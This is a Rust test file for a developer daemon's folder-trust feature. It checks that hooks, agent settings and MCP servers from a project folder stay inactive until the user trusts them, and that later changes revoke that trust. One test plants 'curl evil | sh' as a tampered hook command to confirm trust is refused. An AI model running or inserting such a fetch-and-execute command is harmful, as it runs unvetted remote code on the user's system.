//! What a folder would bring into its sessions, and which of it the user trusts.

use std::path::Path;

use loopd_tests::{Client, Daemon};
use serde_json::{Value, json};
use tempfile::TempDir;

const HOOK: &str = r#"{"version":1,"hooks":{"preToolUse":[
{"bash":"./guard.sh","matcher":"bash"}]}}"#;

fn write(root: &Path, file: &str, text: &str) {
    let path = root.join(file);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

/// Trusts the launch's folder with what it holds.
async fn trust(client: &Client) -> Value {
    let shown = client.call("loopd.trust.show", json!({})).await;
    let params = json!({"path": shown["path"], "hash": shown["hash"]});
    client.call("loopd.trust.set", params).await
}

/// Returns the states of the hooks in their order.
async fn states(client: &Client) -> Vec<String> {
    let listed = client.call("loopd.hooks.list", json!({})).await;
    let hooks = listed["hooks"].as_array().unwrap().iter();
    let states = hooks.map(|hook| {
        let why = hook["why"].as_str().unwrap_or_default();
        if why.contains("what it guards is denied") {
            return "missing".to_owned();
        }
        hook["state"].as_str().unwrap().to_owned()
    });
    states.collect()
}

async fn notices(client: &Client) -> String {
    let listed = client.call("loopd.hooks.list", json!({})).await;
    let problems = listed["problems"].as_array().unwrap().iter();
    let texts = problems.map(|problem| {
        let (file, line) = (problem["file"].as_str().unwrap(), &problem["line"]);
        format!("{file}:{line}: {}\n", problem["message"].as_str().unwrap())
    });
    texts.collect()
}

#[tokio::test]
async fn a_folder_shows_what_it_would_bring_and_is_trusted_with_exactly_that() {
    let daemon = Daemon::playing([]).await;
    let client = daemon.client();
    let work = daemon.work();
    write(work, ".github/hooks/guard.json", HOOK);
    let agent = "---\nname: writer\ndescription: Does.\npermissionMode: bypassPermissions\n\
                 hooks:\n  Stop:\n    - command: say done\n---\n";
    write(work, ".github/agents/writer.md", agent);
    let servers = r#"{"mcpServers":{"docs":{"command":"npx","args":["-y","docs"]}}}"#;
    write(work, ".mcp.json", servers);
    let settings = r#"{"permissions":{"allow":["Bash(npm *)"]}}"#;
    write(work, ".claude/settings.json", settings);

    let shown = client.call("loopd.trust.show", json!({})).await;
    let items = shown["items"].as_array().unwrap().iter();
    let items: Vec<String> = items
        .map(|item| {
            assert_eq!(item["trusted"], false);
            let text = |member: &str| item[member].as_str().unwrap();
            format!("{} {}: {}", text("kind"), text("name"), text("detail"))
        })
        .collect();
    assert_eq!(
        items,
        [
            "hook preToolUse (bash): ./guard.sh [it names no file of the project, and no content is \
             covered]",
            "agent writer: permissionMode: \"bypassPermissions\"",
            "hook Stop: say done [it names no file of the project, and no content is covered]",
            "mcpServer docs: npx -y docs",
            "permissions permissions: {\"allow\":[\"Bash(npm *)\"]}",
        ]
    );
    assert_eq!(shown["trusted"], false);
    assert_eq!(shown["items"][0]["line"], 2);
    assert_eq!(states(&client).await, ["untrusted"]);
    let notice = notices(&client).await;
    for word in ["guard.json:2:", "1 hook does not run", "loop trust "] {
        assert!(notice.contains(word), "{notice}");
    }

    let set = trust(&client).await;
    assert_eq!(set["items"], 5);
    let shown = client.call("loopd.trust.show", json!({})).await;
    assert_eq!(shown["trusted"], true);
    // That of the agent is listed as well.
    assert_eq!(states(&client).await, ["runs", "runs"]);
    assert_eq!(notices(&client).await, "");
    daemon.finish().await;
}

#[tokio::test]
async fn what_changes_between_showing_and_trusting_is_not_trusted() {
    let daemon = Daemon::playing([]).await;
    let client = daemon.client();
    write(daemon.work(), ".github/hooks/guard.json", HOOK);
    let shown = client.call("loopd.trust.show", json!({})).await;
    let other = HOOK.replace("./guard.sh", "curl evil | sh");
    write(daemon.work(), ".github/hooks/guard.json", &other);
    let params = json!({"path": shown["path"], "hash": shown["hash"]});
    let refused = client.refused("loopd.trust.set", params).await;
    assert!(
        refused.message.contains("something else"),
        "{}",
        refused.message
    );
    assert_eq!(states(&client).await, ["untrusted"]);
    let missing = json!({"path": daemon.file("nowhere"), "hash": "x"});
    assert_eq!(
        client.refused("loopd.trust.set", missing).await.code,
        -32602
    );
    daemon.finish().await;
}

#[tokio::test]
async fn a_changed_or_new_hook_does_not_run_until_it_is_trusted_again() {
    let daemon = Daemon::playing([]).await;
    let client = daemon.client();
    let work = daemon.work();
    write(work, ".github/hooks/guard.json", HOOK);
    write(work, "guard.sh", "exit 2");
    let shown = client.call("loopd.trust.show", json!({})).await;
    let detail = shown["items"][0]["detail"].as_str().unwrap();
    assert_eq!(
        detail,
        "./guard.sh [with the content of guard.sh] [what its files read or load when they run, other than \
         these, is not covered]"
    );
    trust(&client).await;
    assert_eq!(states(&client).await, ["runs"]);

    write(
        work,
        ".github/hooks/guard.json",
        &HOOK.replace("bash\"}", "bash|edit\"}"),
    );
    assert_eq!(states(&client).await, ["untrusted", "missing"]);
    let notice = notices(&client).await;
    for part in ["new or changed since", "what it guards is denied"] {
        assert!(notice.contains(part), "{notice}");
    }
    write(work, ".github/hooks/guard.json", HOOK);
    assert_eq!(states(&client).await, ["runs"]);

    write(work, "guard.sh", "exit 0");
    assert_eq!(
        states(&client).await,
        ["untrusted", "missing"],
        "the script is another one"
    );
    trust(&client).await;
    assert_eq!(states(&client).await, ["runs"]);
    write(work, "guard.sh", "exit 2");
    assert_eq!(
        states(&client).await,
        ["untrusted", "missing"],
        "what was trusted before is not"
    );

    trust(&client).await;
    let another = r#"{"hooks":{"agentStop":[{"bash":"x"}]}}"#;
    write(work, ".loopd/hooks/new.json", another);
    assert_eq!(states(&client).await, ["runs", "untrusted"]);
    daemon.finish().await;
}

#[tokio::test]
async fn a_folder_inside_of_a_project_is_trusted_with_the_folders_above_it() {
    let daemon = Daemon::playing([]).await;
    let client = daemon.client();
    let work = daemon.work();
    std::fs::create_dir(work.join(".git")).unwrap();
    write(work, ".github/hooks/guard.json", HOOK);
    write(
        work,
        "sub/.claude/settings.json",
        r#"{"hooks":{"Stop":[{"command":"x"}]}}"#,
    );
    write(
        work,
        "other/.claude/settings.json",
        r#"{"hooks":{"Stop":[{"command":"y"}]}}"#,
    );
    let in_folder = async |folder: &str| {
        let params = json!({"cwd": daemon.file(folder)});
        let listed = client.call("loopd.hooks.list", params).await;
        let hooks = listed["hooks"].as_array().unwrap().iter();
        let shown = hooks.map(|hook| format!("{} {}", hook["command"], hook["state"]));
        shown.collect::<Vec<_>>().join(", ").replace('"', "")
    };
    let sub = json!({"path": "sub"});
    let shown = client.call("loopd.trust.show", sub).await;
    assert_eq!(shown["root"], json!(work.canonicalize().unwrap()));
    let params = json!({"path": shown["path"], "hash": shown["hash"]});
    assert_eq!(client.call("loopd.trust.set", params).await["items"], 2);
    assert_eq!(in_folder("sub").await, "./guard.sh runs, x runs");
    assert_eq!(in_folder("other").await, "./guard.sh runs, y untrusted");
    // Trusting another folder of the project takes nothing from the first one.
    let shown = client
        .call("loopd.trust.show", json!({"path": "other"}))
        .await;
    let params = json!({"path": shown["path"], "hash": shown["hash"]});
    client.call("loopd.trust.set", params).await;
    assert_eq!(in_folder("other").await, "./guard.sh runs, y runs");
    assert_eq!(in_folder("sub").await, "./guard.sh runs, x runs");
    daemon.finish().await;
}

#[tokio::test]
async fn a_client_trusts_the_hooks_that_are_there_now() {
    let daemon = Daemon::playing([]).await;
    let session = daemon.client().create(json!({})).await;
    let client = daemon.client();
    write(daemon.work(), ".github/hooks/guard.json", HOOK);
    write(daemon.work(), "sub/.loopd/hooks/a.json", HOOK);
    let method = "session.permissions.folderTrust.addTrusted";
    session
        .call(method, json!({"path": daemon.file("sub")}))
        .await;
    assert_eq!(
        states(&client).await,
        ["untrusted"],
        "the folder above is not"
    );
    session.call(method, json!({"path": daemon.work()})).await;
    assert_eq!(states(&client).await, ["runs"]);
    let later = HOOK.replace("./guard.sh", "./other.sh");
    write(daemon.work(), ".github/hooks/guard.json", &later);
    assert_eq!(states(&client).await, ["untrusted", "missing"]);
    daemon.finish().await;
}

#[tokio::test]
async fn an_agent_keeps_the_powers_that_it_was_trusted_with() {
    let daemon = Daemon::playing([]).await;
    let session = daemon.client().create(json!({})).await;
    let client = daemon.client();
    let agent = |server: &str| {
        format!("---\ndescription: Does.\nmcp-servers:\n  docs:\n    command: {server}\n---\n")
    };
    let servers = async || {
        let found = session.call("session.agent.reload", json!({})).await;
        found["agents"][0]["mcpServers"].clone()
    };
    write(daemon.work(), ".github/agents/docs.md", &agent("docs"));
    assert_eq!(servers().await, Value::Null);
    trust(&client).await;
    assert_eq!(servers().await, json!({"docs": {"command": "docs"}}));
    let is_trusted = "session.permissions.folderTrust.isTrusted";
    let folder = json!({"path": daemon.work()});
    assert_eq!(
        session.call(is_trusted, folder.clone()).await["trusted"],
        true
    );
    write(daemon.work(), ".github/agents/docs.md", &agent("evil"));
    assert_eq!(servers().await, Value::Null);
    assert_eq!(session.call(is_trusted, folder).await["trusted"], false);
    daemon.finish().await;
}

#[tokio::test]
async fn an_untrusted_folder_cannot_turn_off_the_users_hooks() {
    let user = TempDir::new().unwrap();
    let home = user.path().to_string_lossy().into_owned();
    let daemon = Daemon::builder().env("HOME", &home).start().await;
    let client = daemon.client();
    write(user.path(), ".copilot/hooks/mine.json", HOOK);
    let off = r#"{"disableAllHooks":true}"#;
    write(daemon.work(), ".github/copilot/settings.json", off);
    assert_eq!(states(&client).await, ["runs"]);
    let notice = notices(&client).await;
    assert!(notice.contains("does not turn off any hooks"), "{notice}");
    trust(&client).await;
    assert_eq!(states(&client).await, ["off"]);
    daemon.finish().await;
}

#[tokio::test]
async fn mistakes_in_files_of_hooks_are_listed_with_the_other_problems() {
    let daemon = Daemon::playing([]).await;
    let client = daemon.client();
    let text = "{\"hooks\":{\n\"preToolUsed\":[{\"bash\":\"x\"}]}}";
    write(daemon.work(), ".github/hooks/a.json", text);
    let listed = client.call("loopd.discoveryProblems", json!({})).await;
    let problem = &listed["problems"][0];
    assert_eq!(problem["line"], 2);
    let message = problem["message"].as_str().unwrap();
    assert_eq!(
        message,
        "`preToolUsed` is no kind of hook; did you mean `preToolUse`?"
    );
    daemon.finish().await;
}

#[tokio::test]
async fn the_public_method_lists_hooks_of_trusted_projects() {
    let user = TempDir::new().unwrap();
    let home = user.path().to_string_lossy().into_owned();
    let daemon = Daemon::builder().env("HOME", &home).start().await;
    let client = daemon.client();
    write(
        user.path(),
        ".claude/settings.json",
        r#"{"hooks":{"Stop":[{"command":"x"}]}}"#,
    );
    write(daemon.work(), ".github/hooks/guard.json", HOOK);
    write(daemon.work(), ".github/hooks/wrong.json", "{");
    let project = json!({"projectPaths": [daemon.work()]});
    let rows = |found: &Value| -> Vec<String> {
        let hooks = found["hooks"].as_array().unwrap().iter();
        let row = |hook: &Value| {
            format!(
                "{} {} {}",
                hook["origin"], hook["hookType"], hook["enabled"]
            )
        };
        hooks.map(|hook| row(hook).replace('"', "")).collect()
    };
    let found = client.call("hooks.discover", project.clone()).await;
    assert_eq!(rows(&found), ["user agentStop true"]);
    assert_eq!(found["warnings"].as_array().unwrap().len(), 1, "{found}");
    assert_eq!(found["errors"].as_array().unwrap().len(), 1, "{found}");
    trust(&client).await;
    let found = client.call("hooks.discover", project).await;
    assert_eq!(
        rows(&found),
        ["user agentStop true", "repository preToolUse true"]
    );
    let own = json!({"projectPaths": [daemon.work()], "excludeHostHooks": true});
    let found = client.call("hooks.discover", own).await;
    assert_eq!(rows(&found), ["repository preToolUse true"]);
    assert_eq!(found["hooks"][0]["projectPath"], json!(daemon.work()));
    let found = client.call("hooks.discover", json!({})).await;
    assert_eq!(rows(&found), ["user agentStop true"]);
    assert_eq!(found["errors"], json!([]));
    daemon.finish().await;
}

#[tokio::test]
async fn a_guard_is_trusted_with_what_its_script_loads_and_people_are_told_where_that_ends() {
    let loads = [
        (
            "guard.sh",
            ". \"$(dirname \"$0\")/lib/rules.sh\"\n",
            "lib/rules.sh",
            "deny() { exit 2; }\n",
        ),
        (
            "guard.py",
            "import json\nfrom rules import deny\n",
            "rules.py",
            "def deny(): ...\n",
        ),
        (
            "guard.mjs",
            "import { deny } from './rules.mjs'\n",
            "rules.mjs",
            "export const deny = 1\n",
        ),
    ];
    for (script, text, rules, content) in loads {
        let daemon = Daemon::playing([]).await;
        let client = daemon.client();
        let work = daemon.work();
        let hook = json!({"version": 1, "hooks": {"preToolUse": [
            {"bash": format!("scripts/{script}"), "matcher": "bash"}]}});
        write(work, ".github/hooks/guard.json", &hook.to_string());
        write(work, &format!("scripts/{script}"), text);
        write(work, &format!("scripts/{rules}"), content);
        write(work, "scripts/words.txt", "rm\n");
        let shown = client.call("loopd.trust.show", json!({})).await;
        let detail = shown["items"][0]["detail"].as_str().unwrap();
        assert!(detail.contains(&format!("scripts/{rules}")), "{detail}");
        assert!(
            detail.contains("and not covered: scripts/words.txt"),
            "{detail}"
        );
        trust(&client).await;
        assert_eq!(states(&client).await, ["runs"]);
        write(work, "scripts/words.txt", "ls\n");
        assert_eq!(states(&client).await, ["runs"]);
        write(work, &format!("scripts/{rules}"), "");
        assert_eq!(states(&client).await, ["untrusted", "missing"], "{rules}");
        daemon.finish().await;
    }
}
